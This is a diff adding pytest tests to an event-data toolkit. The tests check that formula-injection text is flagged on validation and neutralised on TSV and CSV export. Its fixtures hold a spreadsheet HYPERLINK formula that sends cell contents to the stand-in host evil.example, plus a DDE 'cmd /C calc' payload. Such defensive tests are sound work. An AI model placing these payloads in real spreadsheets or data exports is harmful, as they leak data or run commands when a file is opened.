@@ -274,3 +274,64 @@ def test_forged_event_file_name_cannot_forge_annotations(data_dir: Path, evtk: C
         for line in r.output.splitlines():
             assert not line.startswith("::stop-commands") and not line.startswith("::error file=forged")
         assert "forged" in r.output
+
+
+# ---------------------------------------------------------------------------- formula injection
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Bamako")'
+
+
+def formula_release(root: Path) -> Path:
+    from test_release import seed_events, write_events
+
+    events = seed_events()
+    events[0]["location"] = {"country": "MLI", "place": FORMULA}
+    events[1]["note"] = "+cmd|' /C calc'!A0"
+    data = make_data(root)
+    write_events(data / "coded" / "afp-2023-02-07-lavrov-mali.seed.yaml", events)
+    return data
+
+
+def test_validate_warns_about_formula_text(tmp_path: Path) -> None:
+    from toolkit.validate import validate
+
+    report = validate([formula_release(tmp_path)]).report
+    assert report.valid
+    assert report.rule_counts.get("E305") == 2
+    fields = sorted(report.findings.filter(rule="E305")["column"].to_list())
+    assert fields == ["location_place", "note"]
+
+
+def test_exports_neutralise_formula_cells(tmp_path: Path) -> None:
+    from toolkit.interchange import export_events
+
+    data = formula_release(tmp_path)
+    built = build_release("0.1.0", data, tmp_path / "releases").path
+    for fmt in ("gdelt2", "phoenix"):
+        out = tmp_path / f"out.{fmt}.tsv"
+        export_events(fmt, built, out)
+        cells = [c for line in out.read_text(encoding="utf-8").splitlines() for c in line.split("\t")]
+        assert "'" + FORMULA in cells
+        assert FORMULA not in cells
+        assert not any(c[:1] in ("=", "+", "@") for c in cells)
+        # negative numbers stay numbers
+        assert any(c.startswith("-") and c.lstrip("-").replace(".", "").isdigit() for c in cells)
+
+
+def test_clean_text_gets_no_formula_warning(tmp_path: Path) -> None:
+    from toolkit.validate import validate
+
+    report = validate([make_data(tmp_path)]).report
+    assert "E305" not in report.rule_counts
+
+
+def test_codebook_csv_export_neutralises_text(codebook_copy: Path, evtk: Callable[..., Any]) -> None:
+    from toolkit.cells import neutralise_frame
+
+    frame = neutralise_frame(
+        __import__("polars").DataFrame({"name": ["=1+1", "-x", " @y", "ok", None], "goldstein": [-10.0] * 5})
+    )
+    assert frame["name"].to_list() == ["'=1+1", "'-x", "' @y", "ok", None]
+    assert frame["goldstein"].to_list() == [-10.0] * 5
+    r = evtk("codebook", "export", "--table", "events", "--format", "csv", "--codebook", codebook_copy)
+    assert r.code == 0, r.output
+    assert ",-10.0," in r.out or ",-10," in r.out
